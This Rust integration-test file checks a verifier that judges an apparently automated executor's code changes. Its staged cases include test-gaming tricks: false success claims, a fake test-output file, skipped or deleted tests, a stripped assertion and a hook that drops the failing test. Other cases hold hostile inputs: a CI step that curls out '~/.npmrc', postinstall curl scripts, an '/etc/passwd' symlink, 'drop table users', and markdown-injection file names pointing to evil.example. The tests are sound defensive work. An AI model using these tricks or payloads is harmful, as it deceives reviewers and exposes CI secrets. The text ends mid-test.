//! Verification against a real repository (a tiny Python project tested with
//! `python3 -m unittest`) in real workspaces and the real bubblewrap sandbox: the base has
//! one failing and one passing test, and each result is made the way an executor leaves
//! one, by editing its checkout. bubblewrap, python3 and curl must be installed (CI
//! installs them); without them these tests fail, not skip.

use crate::support;

use support::git_http::git;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use planwright::config::repo::{RepoConfig, RootFiles};
use planwright::contract::{Contract, FileAction, FileChange, TestChange, TestChangeKind};
use planwright::environment::setup_cache::SetupCache;
use planwright::forge::GitRemote;
use planwright::git::{MirrorCache, MirrorKey, Outcome, Workspace, WorkspaceRequest, Workspaces};
use planwright::ids::{CommitSha, IssueNumber, RepoName, RepoScope};
use planwright::sandbox::{Bwrap, Limits};
use planwright::verify::{
    Class, Phase, Plan, Proof, RunSet, Severity, Verdict, VerificationReport, Verifier,
};
use secrecy::SecretString;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const CALC: &str = "def add(a, b):\n    return a - b\n\n\ndef mul(a, b):\n    return a * b\n";
const CALC_FIXED: &str = "def add(a, b):\n    return a + b\n\n\ndef mul(a, b):\n    return a * b\n";
const CALC_MUL_BROKEN: &str =
    "def add(a, b):\n    return a - b\n\n\ndef mul(a, b):\n    return a + b\n";
const TESTS: &str = "import unittest
import calc


class TestCalc(unittest.TestCase):
    def test_add(self):
        self.assertEqual(calc.add(2, 3), 5)

    def test_mul(self):
        self.assertEqual(calc.mul(2, 3), 6)


if __name__ == \"__main__\":
    unittest.main()
";
/// Fails the first time it runs in a workspace, passes after: its marker lives in the
/// workspace's HOME (each sandboxed run has a private /tmp).
const FLAKY_TEST: &str = "

class TestFlaky(unittest.TestCase):
    def test_flaky(self):
        import os
        marker = os.path.join(os.environ[\"HOME\"], \"ran-once\")
        if not os.path.exists(marker):
            open(marker, \"w\").close()
            self.fail(\"first run fails\")
";

const ADD_ID: &str = "test_calc.TestCalc.test_add";
const MUL_ID: &str = "test_calc.TestCalc.test_mul";

/// An upstream repository at the base commit, the mirror cache and workspaces over it,
/// and a verifier on the real sandbox; all under the target folder and open to the
/// unprivileged user sandboxes run as.
struct Project {
    root: tempfile::TempDir,
    upstream: PathBuf,
    base: String,
    workspaces: Workspaces,
    key: MirrorKey,
    verifier: Verifier,
}

impl Project {
    fn new() -> Self {
        Project::with_files(&[
            ("calc.py", CALC),
            ("test_calc.py", TESTS),
            ("README.md", "# calc\n"),
            (".github/workflows/ci.yml", "on: push\n"),
        ])
    }

    /// A project whose base commit holds `files`.
    fn with_files(files: &[(&str, &str)]) -> Self {
        let root = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("a temporary folder");
        let (data, scratch) = (root.path().join("data"), root.path().join("s"));
        for dir in [root.path(), &data, &scratch] {
            std::fs::create_dir_all(dir).unwrap();
            std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        let upstream = root.path().join("up.git");
        let work = root.path().join("work");
        std::fs::create_dir_all(&work).unwrap();
        git(
            root.path(),
            &["init", "-q", "--bare", "-b", "main", "up.git"],
        );
        git(&work, &["init", "-q", "-b", "main"]);
        for (path, text) in files {
            let full = work.join(path);
            std::fs::create_dir_all(full.parent().unwrap()).unwrap();
            std::fs::write(full, text).unwrap();
        }
        git(&work, &["add", "-A"]);
        git(&work, &["commit", "-q", "-m", "calc with a broken add"]);
        git(&work, &["push", "-q", upstream.to_str().unwrap(), "main"]);
        let base = git(&work, &["rev-parse", "HEAD"]);

        let cache = Arc::new(MirrorCache::new(&data));
        let workspaces = Workspaces::new(&data, cache, Workspaces::default_owner());
        let key = MirrorKey::new("github", RepoName::parse("octo/calc").unwrap()).unwrap();
        let sandbox = Bwrap::new(Vec::new())
            .expect("bubblewrap is installed (CI installs the bubblewrap package)")
            .with_relay_program(env!("CARGO_BIN_EXE_planwright"));
        let verifier = Verifier::new(Arc::new(sandbox), scratch);
        Project {
            root,
            upstream,
            base,
            workspaces,
            key,
            verifier,
        }
    }

    async fn workspace(&self) -> Workspace {
        self.workspaces
            .create(&WorkspaceRequest {
                mirror: self.key.clone(),
                remote: GitRemote {
                    url: self.upstream.display().to_string(),
                    username: "x-access-token".into(),
                    password: SecretString::from("unused-for-a-local-path"),
                },
                base: CommitSha(self.base.clone()),
                issue: IssueNumber(3),
                title: "add subtracts".into(),
                size: None,
            })
            .await
            .expect("a workspace at the base")
    }

    async fn baseline(&self, plan: &Plan) -> RunSet {
        let ws = self.workspace().await;
        let runs = self
            .verifier
            .baseline(plan, &ws, "run-3")
            .await
            .expect("the baseline runs");
        ws.finish(Outcome::Succeeded).await.unwrap();
        runs
    }

    /// The baseline (run while the "executor" edits its own workspace, as it may be) and
    /// the verification of what `edit` leaves in the result's checkout.
    async fn verify(
        &self,
        contract: &Contract,
        plan: &Plan,
        edit: impl FnOnce(&Path),
    ) -> VerificationReport {
        let result = self.workspace().await;
        let (baseline, ()) = tokio::join!(self.baseline(plan), async { edit(&result.repo()) });
        let report = self
            .verifier
            .verify(plan, contract, &baseline, &result, "run-3")
            .await
            .expect("verification runs");
        result.finish(Outcome::Succeeded).await.unwrap();
        // The stored form is JSON: it must carry everything back.
        let json = serde_json::to_string(&report).unwrap();
        let back: VerificationReport = serde_json::from_str(&json).unwrap();
        assert_eq!(back, report);
        // Paths of the host's workspaces never reach a report.
        assert!(!json.contains(self.root.path().to_str().unwrap()), "{json}");
        report
    }
}

fn write(repo: &Path, path: &str, text: &str) {
    let full = repo.join(path);
    std::fs::create_dir_all(full.parent().unwrap()).unwrap();
    std::fs::write(full, text).unwrap();
}

fn contract() -> Contract {
    Contract::from_json(
        r#"{
          "summary": "add subtracts instead of adding",
          "diagnosis": {
            "hypothesis": "calc.add uses `-`",
            "evidence": [{"path": "test_calc.py", "lines": "7", "note": "expects 5"}]
          },
          "change": {
            "goal": "add adds",
            "files": [{"path": "calc.py", "action": "modify", "why": "the operator"}]
          },
          "verification": {"commands": ["python3 -m unittest"], "new_tests": []},
          "routing": {"risk": "low"}
        }"#,
    )
    .expect("a valid contract")
}

/// The repository's settings; the test command differs from the contract's only in
/// spacing, so it runs once.
fn config(extra: &str) -> RepoConfig {
    let text = format!("test: [\"python3  -m   unittest\"]\n{extra}");
    RepoConfig::parse(&text, ".github/planwright.yml", &RootFiles::default())
        .expect("valid settings")
}

fn ids(report: &VerificationReport, class: Class) -> Vec<String> {
    let mut ids: Vec<String> = report
        .failures
        .iter()
        .filter(|f| f.class == class)
        .map(|f| f.test.clone().unwrap_or_else(|| format!("<{}>", f.command)))
        .collect();
    ids.sort();
    ids
}

#[tokio::test(flavor = "multi_thread")]
async fn a_fix_turns_the_failing_test_into_fixed() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    assert_eq!(plan.checks, vec!["python3 -m unittest".to_owned()]);
    let report = world
        .verify(&contract, &plan, |repo| write(repo, "calc.py", CALC_FIXED))
        .await;

    assert_eq!(report.verdict, Verdict::Passed, "{}", report.compact());
    assert_eq!(ids(&report, Class::Fixed), vec![ADD_ID]);
    assert!(ids(&report, Class::Introduced).is_empty());
    assert!(ids(&report, Class::PreExisting).is_empty());
    assert!(report.scope.is_empty(), "{:?}", report.scope);
    let c = &report.commands[0];
    let base = c.baseline.as_ref().unwrap();
    assert_eq!((base.exit_code, base.passed, base.failed), (Some(1), 1, 1));
    assert_eq!(
        (c.after.exit_code, c.after.passed, c.after.failed),
        (Some(0), 2, 0)
    );
    // Fixed only once seen passing: the base's failing test ran alone on the result.
    assert_eq!(c.reruns.len(), 1, "{:?}", c.reruns);
    assert!(c.reruns[0].confirms);
    assert_eq!(
        c.reruns[0].selected.as_deref(),
        Some("python3 -m unittest test_calc.TestCalc.test_add")
    );
    assert_eq!(
        (c.reruns[0].summary.exit_code, c.reruns[0].summary.passed),
        (Some(0), 1)
    );
    let fixed = &report.failures[0];
    assert_eq!(fixed.location.as_deref(), Some("test_calc.py:7"));
    assert!(
        fixed.message.contains("AssertionError: -1 != 5"),
        "{fixed:?}"
    );

    let table = report.pr_markdown();
    assert!(
        table.starts_with("**Verification passed: 1 fixed**"),
        "{table}"
    );
    assert!(
        table.contains("| command | baseline | after |\n|---|---|---|\n| `python3 -m unittest` | ❌ 1 passed, 1 failed · exit 1 · "),
        "{table}"
    );
    assert!(
        table.contains("| ✅ 2 passed, 0 failed · exit 0 · "),
        "{table}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn breaking_the_passing_test_is_introduced_and_the_old_failure_pre_existing() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_MUL_BROKEN)
        })
        .await;

    assert_eq!(report.verdict, Verdict::Failed);
    assert_eq!(ids(&report, Class::Introduced), vec![MUL_ID]);
    assert_eq!(ids(&report, Class::PreExisting), vec![ADD_ID]);
    assert!(ids(&report, Class::Fixed).is_empty());
    assert_eq!(report.counts.introduced, 1);
    // Re-run alone as often as the default allows, and it failed each time: introduced,
    // not flaky. The old failure is not re-run on the result.
    let reruns = &report.commands[0].reruns;
    assert_eq!(reruns.len(), 2, "{reruns:?}");
    for rerun in reruns {
        assert_eq!(
            (
                rerun.summary.exit_code,
                rerun.summary.passed,
                rerun.summary.failed
            ),
            (Some(1), 0, 1)
        );
    }
    let introduced = report
        .failures
        .iter()
        .find(|f| f.class == Class::Introduced)
        .unwrap();
    assert_eq!(introduced.location.as_deref(), Some("test_calc.py:10"));
    assert!(introduced.message.contains("AssertionError: 5 != 6"));

    let check = report.check_markdown();
    assert!(check.contains("### Introduced failures (1)"), "{check}");
    assert!(
        check.contains(&format!(
            "- `{MUL_ID}` in `python3 -m unittest` at `test_calc.py:10`"
        )),
        "{check}"
    );
    let compact = report.compact();
    assert!(
        compact.starts_with("Verification failed: 1 introduced, 1 pre-existing\n"),
        "{compact}"
    );
    assert!(
        compact.contains(&format!(
            "- {MUL_ID} [python3 -m unittest] at test_calc.py:10\n    AssertionError: 5 != 6"
        )),
        "{compact}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn output_past_the_memory_cap_is_read_from_the_spill_file() {
    let mut world = Project::new();
    // unittest's failure blocks come last, far past the first 64 bytes.
    world.verifier = world.verifier.clone().with_limits(Limits {
        output_bytes: 64,
        ..Limits::default()
    });
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_MUL_BROKEN)
        })
        .await;

    assert_eq!(ids(&report, Class::Introduced), vec![MUL_ID]);
    assert_eq!(ids(&report, Class::PreExisting), vec![ADD_ID]);
    assert_eq!(report.commands[0].after.failed, 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn leaving_both_is_pre_existing_and_an_unrelated_file_is_flagged() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            write(repo, "calc.py", &format!("# arithmetic\n{CALC}"));
            write(repo, "README.md", "# calc, now documented\n");
        })
        .await;

    assert_eq!(ids(&report, Class::PreExisting), vec![ADD_ID]);
    assert!(ids(&report, Class::Introduced).is_empty());
    assert!(ids(&report, Class::Fixed).is_empty());
    // A flagged file is for the reviewer; it does not fail verification.
    assert_eq!(report.verdict, Verdict::Passed);
    assert_eq!(report.scope.len(), 1, "{:?}", report.scope);
    let finding = &report.scope[0];
    assert_eq!(
        (
            finding.path.as_str(),
            finding.change.as_str(),
            finding.severity
        ),
        ("README.md", "modified", Severity::Flagged)
    );
    assert_eq!(finding.reason, "not among the contract's files");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_test_that_fails_then_passes_is_flaky_not_introduced() {
    let world = Project::new();
    let mut contract = contract();
    declare(&mut contract, "test_calc.py", FileAction::Modify);
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_FIXED);
            write(repo, "test_calc.py", &format!("{TESTS}{FLAKY_TEST}"));
        })
        .await;

    assert_eq!(
        ids(&report, Class::Flaky),
        vec!["test_calc.TestFlaky.test_flaky"]
    );
    assert!(ids(&report, Class::Introduced).is_empty());
    assert_eq!(ids(&report, Class::Fixed), vec![ADD_ID]);
    assert_eq!(report.verdict, Verdict::Passed, "{}", report.compact());
    let c = &report.commands[0];
    assert_eq!((c.after.exit_code, c.after.failed), (Some(1), 1));
    // Only the failing test ran again, once: it passed. The fixed one ran alone too.
    let reruns: Vec<_> = c.reruns.iter().filter(|r| !r.confirms).collect();
    assert_eq!(reruns.len(), 1, "{c:?}");
    let rerun = reruns[0];
    assert_eq!(
        rerun.selected.as_deref(),
        Some("python3 -m unittest test_calc.TestFlaky.test_flaky")
    );
    assert_eq!(
        (rerun.summary.exit_code, rerun.summary.passed),
        (Some(0), 1)
    );
    // Editing a test file is within scope.
    assert!(report.scope.is_empty(), "{:?}", report.scope);
    let table = report.pr_markdown();
    assert!(
        table.contains(
            "Flaky: `test_calc.TestFlaky.test_flaky` passed and failed in runs of the same \
             tree; neither blocking nor counted as fixed."
        ),
        "{table}"
    );
    assert!(
        table.contains("; re-run of the failing tests: ✅ 1 passed"),
        "{table}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_executor_claims_does_not_count_only_the_run() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    // The executor breaks mul, says everything passes, and even leaves "proof".
    let claim = "Fixed add. Ran python3 -m unittest: Ran 2 tests, OK";
    let report = world
        .verify(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_MUL_BROKEN);
            write(
                repo,
                "test-output.txt",
                &format!("{claim}\n\nRan 2 tests in 0.001s\n\nOK\n"),
            );
        })
        .await;

    assert_eq!(report.verdict, Verdict::Failed);
    assert_eq!(ids(&report, Class::Introduced), vec![MUL_ID]);
    assert!(
        !serde_json::to_string(&report)
            .unwrap()
            .contains("Fixed add")
    );
    assert_eq!(report.scope.len(), 1);
    assert_eq!(report.scope[0].path, "test-output.txt");
    assert_eq!(report.scope[0].severity, Severity::Flagged);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_workflow_or_planwright_settings_edit_is_refused() {
    let world = Project::new();
    let contract = contract();
    // The repository chose its own protected paths; its planwright settings stay
    // protected all the same.
    let plan = Plan::new(
        &contract,
        &config("protected_paths: [\".github/workflows/**\"]\n"),
    );
    let report = world
        .verify(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_FIXED);
            write(repo, ".github/workflows/ci.yml", "on: push\njobs: {}\n");
            write(repo, ".github/planwright.yml", "budget_usd: 1000\n");
        })
        .await;

    // The tests pass; the result is refused anyway.
    assert_eq!(ids(&report, Class::Fixed), vec![ADD_ID]);
    assert_eq!(report.verdict, Verdict::Refused);
    let mut refused: Vec<(&str, &str, &str)> = report
        .scope
        .iter()
        .filter(|f| f.severity == Severity::Refused)
        .map(|f| (f.path.as_str(), f.change.as_str(), f.reason.as_str()))
        .collect();
    refused.sort();
    assert_eq!(
        refused,
        vec![
            (
                ".github/planwright.yml",
                "added",
                "protected by `.github/planwright.yml`"
            ),
            (
                ".github/workflows/ci.yml",
                "modified",
                "protected by `.github/workflows/**`"
            ),
        ]
    );
    assert!(
        report
            .headline()
            .starts_with("Verification refused: 2 refused path(s)")
    );
    assert!(report.check_markdown().contains(
        "- **refused**: `.github/workflows/ci.yml` (modified): protected by `.github/workflows/**`"
    ));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_refused_path_with_line_breaks_in_its_name_cannot_write_markdown_into_the_report() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(
        &contract,
        &config("protected_paths: [\".github/workflows/**\"]\n"),
    );
    // A file name may hold carriage returns: two of them end a line and a paragraph for
    // markdown, then a heading, a team mention and a link.
    let name = ".github/workflows/x\r\r# @octo-org/sec [x](mailto:a@evil.example).yml";
    let report = world
        .verify(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_FIXED);
            write(repo, name, "on: push\n");
        })
        .await;
    assert_eq!(report.verdict, Verdict::Refused);
    assert!(
        report.scope.iter().any(|f| f.path == name),
        "{:?}",
        report.scope
    );
    for shown in [report.check_markdown(), report.for_publication().failing] {
        support::markdown::assert_inert(&shown, "octo-org");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_test_targets_name_with_backticks_cannot_write_markdown_into_the_report() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    // A backtick closes the code span the name is shown in; a mention and a link follow.
    let cargo = "[package]\nname = \"calc\"\nversion = \"0.1.0\"\n\n[[test]]\n\
                 name = \"t` @mallory [x](mailto:a@evil.example) `\"\nharness = false\n";
    let report = world
        .verify(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_FIXED);
            write(repo, "Cargo.toml", cargo);
        })
        .await;
    let published = report.for_publication();
    for shown in [report.check_markdown(), published.failing] {
        support::markdown::assert_inert(&shown, "mallory");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_failure_message_with_carriage_returns_cannot_write_markdown_into_the_report() {
    // A test command that prints a JUnit report whose failure message, through character
    // references, holds carriage returns, then a heading, a mention and a link.
    let script = "cat <<'EOF'\n<testsuite><testcase classname=\"t\" name=\"a\">\
                  <failure message=\"m&#13;&#13;# @mallory [x](mailto:a@evil.example)\"/>\
                  </testcase></testsuite>\nEOF\nexit 1\n";
    let world = Project::with_files(&[("report.sh", script)]);
    let contract = contract();
    let plan = Plan::new(&contract, &settings("test: [\"sh report.sh\"]\n"));
    let report = world
        .verify(&contract, &plan, |repo| write(repo, "calc.py", CALC_FIXED))
        .await;
    assert!(
        report
            .failures
            .iter()
            .any(|f| f.message.contains("@mallory")),
        "{}",
        report.compact()
    );
    let published = report.for_publication();
    for shown in [report.check_markdown(), published.failing] {
        support::markdown::assert_inert(&shown, "mallory");
    }
}

fn declare(contract: &mut Contract, path: &str, action: FileAction) {
    contract.change.files.push(FileChange {
        path: path.into(),
        action,
        why: "named on purpose".into(),
    });
}

fn refused(report: &VerificationReport) -> Vec<(&str, &str)> {
    let mut refused: Vec<(&str, &str)> = report
        .scope
        .iter()
        .filter(|f| f.severity == Severity::Refused)
        .map(|f| (f.path.as_str(), f.reason.as_str()))
        .collect();
    refused.sort();
    refused
}

#[tokio::test(flavor = "multi_thread")]
async fn a_result_changing_files_ci_runs_that_the_contract_does_not_name_is_refused() {
    let world = Project::new();
    let mut contract = contract();
    declare(&mut contract, "Makefile", FileAction::Create);
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_FIXED);
            // Each of these runs on the next push, with CI's secrets, before anyone
            // reviews the pull request.
            write(
                repo,
                ".github/actions/setup/action.yml",
                "runs: {using: composite, steps: [{run: 'curl -d @$HOME/.npmrc x', shell: bash}]}\n",
            );
            write(repo, "package.json", "{\"scripts\": {\"postinstall\": \"curl x\"}}\n");
            write(repo, "web/package.json", "{\"scripts\": {\"test\": \"curl x\"}}\n");
            write(repo, "build.rs", "fn main() {}\n");
            write(repo, "noxfile.py", "import os\n");
            // Named by the contract: allowed.
            write(repo, "Makefile", "test:\n\tpython3 -m unittest\n");
        })
        .await;

    assert_eq!(ids(&report, Class::Fixed), vec![ADD_ID]);
    assert_eq!(report.verdict, Verdict::Refused, "{}", report.compact());
    let paths: Vec<&str> = refused(&report).iter().map(|(p, _)| *p).collect();
    assert_eq!(
        paths,
        [
            ".github/actions/setup/action.yml",
            "build.rs",
            "noxfile.py",
            "package.json",
            "web/package.json"
        ]
    );
    assert!(
        refused(&report)
            .iter()
            .all(|(_, reason)| reason.contains("the contract must name the file")),
        "{:?}",
        report.scope
    );
    assert!(
        !report.scope.iter().any(|f| f.path == "Makefile"),
        "{:?}",
        report.scope
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_repositorys_protected_paths_add_to_the_defaults() {
    let world = Project::new();
    let mut contract = contract();
    // Even named by the contract, the default protected paths stay refused.
    declare(
        &mut contract,
        ".github/workflows/ci.yml",
        FileAction::Modify,
    );
    declare(&mut contract, ".gitlab-ci.yml", FileAction::Create);
    let plan = Plan::new(&contract, &config("protected_paths: [\"migrations/**\"]\n"));
    let report = world
        .verify(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_FIXED);
            write(repo, ".github/workflows/ci.yml", "on: push\njobs: {}\n");
            write(repo, ".gitlab-ci.yml", "test: {script: [curl x]}\n");
            write(repo, "migrations/0001.sql", "drop table users;\n");
        })
        .await;

    assert_eq!(report.verdict, Verdict::Refused, "{}", report.compact());
    assert_eq!(
        refused(&report),
        [
            (
                ".github/workflows/ci.yml",
                "protected by `.github/workflows/**`"
            ),
            (".gitlab-ci.yml", "protected by `.gitlab-ci.yml`"),
            ("migrations/0001.sql", "protected by `migrations/**`"),
        ]
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_result_adding_a_symlink_or_a_nested_repository_is_refused_unless_named() {
    let world = Project::new();
    let mut contract = contract();
    declare(&mut contract, "calc_alias.py", FileAction::Create);
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            write(repo, "calc.py", CALC_FIXED);
            // Pushed as a link, it points readers and CI at whatever the target holds.
            std::os::unix::fs::symlink("/etc/passwd", repo.join("notes.txt")).unwrap();
            std::os::unix::fs::symlink("../../..", repo.join("docs")).unwrap();
            // Committed as a gitlink: a submodule pin to any commit of any repository.
            let nested = repo.join("vendor/lib");
            std::fs::create_dir_all(&nested).unwrap();
            git(&nested, &["init", "-q", "-b", "main"]);
            write(&nested, "lib.py", "x = 1\n");
            git(&nested, &["add", "-A"]);
            git(
                &nested,
                &[
                    "-c",
                    "user.name=x",
                    "-c",
                    "user.email=x@example.com",
                    "commit",
                    "-q",
                    "-m",
                    "lib",
                ],
            );
            // Named by the contract: allowed.
            std::os::unix::fs::symlink("calc.py", repo.join("calc_alias.py")).unwrap();
        })
        .await;

    assert_eq!(report.verdict, Verdict::Refused, "{:?}", report.scope);
    assert_eq!(
        refused(&report),
        [
            (
                "docs",
                "a symbolic link; the contract must name the path to add one"
            ),
            (
                "notes.txt",
                "a symbolic link; the contract must name the path to add one"
            ),
            (
                "vendor/lib",
                "a nested repository (a gitlink); the contract must name the path to add one"
            ),
        ]
    );
    assert!(
        !report.scope.iter().any(|f| f.path == "calc_alias.py"),
        "{:?}",
        report.scope
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn deleting_the_test_to_be_fixed_is_refused() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            std::fs::remove_file(repo.join("test_calc.py")).unwrap();
        })
        .await;

    assert_eq!(report.verdict, Verdict::Refused);
    assert_eq!(report.scope.len(), 1);
    let finding = &report.scope[0];
    assert_eq!(
        (
            finding.path.as_str(),
            finding.change.as_str(),
            finding.severity
        ),
        ("test_calc.py", "deleted", Severity::Refused)
    );
    assert_eq!(
        finding.reason,
        "a test file the contract is meant to make pass was deleted"
    );
    // The contract does not name the test file: it is judged in its base form, where the
    // test still fails, so nothing is fixed.
    assert!(ids(&report, Class::Fixed).is_empty());
    assert_eq!(ids(&report, Class::PreExisting), vec![ADD_ID]);
    assert!(report.judged[0].contains("`test_calc.py` ran in its base form"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_result_that_skips_the_failing_test_fails_naming_the_line() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            let skipped = TESTS.replace(
                "    def test_add",
                "    @unittest.skip(\"fails for now\")\n    def test_add",
            );
            write(repo, "test_calc.py", &skipped);
        })
        .await;

    // Judged in its base form (the contract does not name the file), the test runs and
    // still fails.
    let c = &report.commands[0];
    assert_eq!(
        (
            c.after.exit_code,
            c.after.passed,
            c.after.failed,
            c.after.skipped
        ),
        (Some(1), 1, 1, 0)
    );
    assert_eq!(report.verdict, Verdict::Failed, "{}", report.compact());
    assert!(
        report
            .headline()
            .starts_with("Verification failed: 1 weakened test"),
        "{}",
        report.headline()
    );
    let found: Vec<(String, String, bool)> = report
        .weakening
        .findings
        .iter()
        .map(|f| (f.what.clone(), f.location(), f.refused()))
        .collect();
    assert_eq!(
        found,
        [(
            "adds `@unittest.skip` to `TestCalc.test_add`".to_owned(),
            "test_calc.py:6".to_owned(),
            true
        )]
    );
    assert!(report.scope.is_empty(), "{:?}", report.scope);
    let failing = report.for_publication().failing;
    assert!(
        failing.contains(
            "(`test_calc.py:6`): the contract's test_changes allow no change to `test_calc.py`"
        ),
        "{failing}"
    );
}

/// Keeps `test_add` out of the suite when unittest loads the module: the whole run then
/// passes without it.
const DROPS_TEST_ADD: &str = "

def load_tests(loader, standard_tests, pattern):
    return unittest.TestSuite([TestCalc(\"test_mul\")])
";

#[tokio::test(flavor = "multi_thread")]
async fn a_hook_that_drops_the_failing_test_from_the_suite_fixes_nothing() {
    let world = Project::new();
    let mut contract = contract();
    declare(&mut contract, "test_calc.py", FileAction::Modify);
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            // calc.py stays broken; the test module hides the test that shows it.
            write(repo, "test_calc.py", &format!("{TESTS}{DROPS_TEST_ADD}"));
        })
        .await;

    // The run alone passes: the failing test no longer runs.
    let c = &report.commands[0];
    assert_eq!(
        (c.after.exit_code, c.after.passed, c.after.failed),
        (Some(0), 1, 0)
    );
    assert_eq!(report.verdict, Verdict::Failed, "{}", report.compact());
    assert_eq!(ids(&report, Class::Fixed), Vec::<String>::new());
    assert_eq!(ids(&report, Class::NoLongerRuns), vec![ADD_ID]);
    assert_eq!(report.headline(), "Verification failed: 1 no longer run");
    // Run alone, the test still fails: the code was never fixed.
    let failure = &report.failures[0];
    assert!(
        failure.message.contains("still failing when run alone")
            && failure.message.contains("AssertionError: -1 != 5"),
        "{failure:?}"
    );
    assert!(c.reruns.iter().any(|r| r.confirms), "{:?}", c.reruns);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_result_that_drops_the_failing_assertion_fails_naming_the_base_line() {
    let world = Project::new();
    let contract = contract();
    let plan = Plan::new(&contract, &config(""));
    let report = world
        .verify(&contract, &plan, |repo| {
            let emptied = TESTS.replace(
                "        self.assertEqual(calc.add(2, 3), 5)",
                "        calc.add(2, 3)",
            );
            write(repo, "test_calc.py", &emptied);
        })
        .await;

    // Judged in its base form, the assertion is still there and still fails.
    assert!(ids(&report, Class::Fixed).is_empty());
    assert_eq!(ids(&report, Class::PreExisting), vec![ADD_ID]);
    assert_eq!(report.verdict, Verdict::Failed, "{}", report.compact());
    let finding = &report.weakening.findings[..];
    assert_eq!(finding.len(), 1, "{finding:?}");
    assert_eq!(
        finding[0].what,
        "removes the assertion `self.assertEqual(calc.add(2, 3), 5)` from `TestCalc.test_add`"
    );
    assert_eq!(finding[0].location(), "test_calc.py:7 in the base");
    assert!(
        report.compact().contains(
            "to do: restore the assertion of `TestCalc.test_add` at test_calc.py:7 in the base"
        ),
        "{}",
        report.compact()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_goal_that_says_skip_allows_no_skip_and_a_test_change_entry_does() {
    let world = Project::new();
    // Fixes `add`, and skips the passing `test_mul` on the way.
    let edit = |repo: &Path| {
        write(repo, "calc.py", CALC_FIXED);
        let skipped = TESTS.replace(
            "    def test_mul",
            "    @unittest.skip(\"slow\")\n    def test_mul",
        );
        write(repo, "test_calc.py", &skipped);
    };
    let mut wordy = contract();
    wordy.change.goal = "add adds; skip whatever is slow".into();
    declare(&mut wordy, "test_calc.py", FileAction::Modify);
    wordy.change.files[1].why = "skip test_mul, it is slow".into();
    let plan = Plan::new(&wordy, &config(""));
    let report = world.verify(&wordy, &plan, edit).await;
    assert_eq!(report.verdict, Verdict::Failed, "{}", report.compact());
    let found: Vec<(String, bool)> = report
        .weakening
        .findings
        .iter()
        .map(|f| (f.what.clone(), f.refused()))
        .collect();
    assert_eq!(
        found,
        [(
            "adds `@unittest.skip` to `TestCalc.test_mul`".to_owned(),
            true
        )]
    );

    let mut allowing = wordy.clone();
    allowing.verification.test_changes = vec![TestChange {
        path: "test_calc.py".into(),
        test: Some("test_mul".into()),
        kind: TestChangeKind::Skip,
        why: "it is slow".into(),
    }];
    let report = world.verify(&allowing, &plan, edit).await;
    assert_eq!(report.verdict, Verdict::Passed, "{}", report.compact());
    assert!(
        report.for_publication().failing.contains(
            "- declared: adds `@unittest.skip` to `TestCalc.test_mul` (`test_calc.py:9`): \
             allowed by the contract's test_changes: skip `test_calc.py` `test_mul`: it is slow"
        ),
        "{}",
        report.for_publication().failing
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_renamed_test_expecting_something_else_is_listed_where_named_and_refused_elsewhere() {
    let world = Project::new();
    // The fix, and `test_mul` renamed with another expected value.
    let edit = |repo: &Path| {
        write(repo, "calc.py", CALC_FIXED);
        let renamed = TESTS
            .replace("def test_mul", "def test_mul_small")
            .replace("calc.mul(2, 3), 6)", "calc.mul(2, 2), 4)");
        write(repo, "test_calc.py", &renamed);
    };
    let mut named = contract();
    declare(&mut named, "test_calc.py", FileAction::Modify);
    let plan = Plan::new(&named, &config(""));
    let report = world.verify(&named, &plan, edit).await;
    assert_eq!(report.verdict, Verdict::Passed, "{}", report.compact());
    assert!(report.weakening.findings.is_empty(), "{}", report.compact());
    let changed: Vec<(String, Option<String>, u32, String, String)> = report
        .weakening
        .changed
        .iter()
        .map(|c| {
            (
                format!("{}:{}", c.path, c.test),
                c.renamed_from.clone(),
                c.line,
                c.old_assertion.clone(),
                c.new_assertion.clone(),
            )
        })
        .collect();
